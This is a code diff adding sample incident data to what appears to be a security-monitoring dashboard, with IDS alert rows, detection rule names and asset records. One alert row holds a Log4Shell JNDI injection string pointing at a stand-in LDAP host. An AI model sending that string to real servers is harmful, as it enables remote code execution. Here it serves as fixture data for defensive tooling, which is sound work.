@@ -117,6 +117,16 @@ export function incidentRows(now: number): IncidentRow[] {
   }));
 }
 
+/** Seconds ago, oldest first. */
+const LATEST: readonly (readonly [number, Severity, string, number, string])[] = [
+  [96, 2, '10.20.3.12', 8080, 'ET SCAN Nmap Scripting Engine User-Agent'],
+  [71, 4, '10.20.3.11', 8080, 'ET EXPLOIT Apache Log4j RCE Attempt (http ldap) (CVE-2021-44228)'],
+  [58, 4, '10.20.3.11', 8080, '/search?q=${jndi:ldap://203.0.113.9:1389/a}'],
+  [45, 4, '203.0.113.9', 1389, 'ET HUNTING LDAP Response to Internal Host after JNDI Lookup'],
+  [21, 3, '10.20.9.4', 53, 'ET MALWARE Observed DNS Query to Cobalt Strike C2 Domain'],
+  [8, 3, '2001:db8:42::1f', 443, 'ET MALWARE Observed DNS Query to Cobalt Strike C2 Domain'],
+];
+
 /** The gravest, with its evidence. */
 export function incidentDetail(now: number): Incident {
   const [row] = incidentRows(now);
@@ -135,6 +145,20 @@ export function incidentDetail(now: number): Incident {
   return {
     ...row!,
     peers: ['10.20.3.11', '10.20.3.12', '10.20.9.4'],
+    latest: LATEST.map(([seconds, severity, destination, port, message]) => ({
+      id: `event-${seconds}`,
+      time: now - seconds * 1000,
+      severity,
+      source: row!.cause.value,
+      destination,
+      port,
+      transport: port === 53 ? 'udp' : 'tcp',
+      message,
+    })),
+    assets: [
+      { name: 'shop-web-2', address: '10.20.3.12', criticality: 'medium', owner: '' },
+      { name: 'customer-db-1', address: '10.20.3.11', criticality: 'critical', owner: 'Database team, 4410' },
+    ],
     detections: [
       rule('ET SCAN Nmap Scripting Engine User-Agent', 2, 610, 420, 212),
       rule('ET EXPLOIT Apache Log4j RCE Attempt (http ldap) (CVE-2021-44228)', 4, 380, 40, 37),
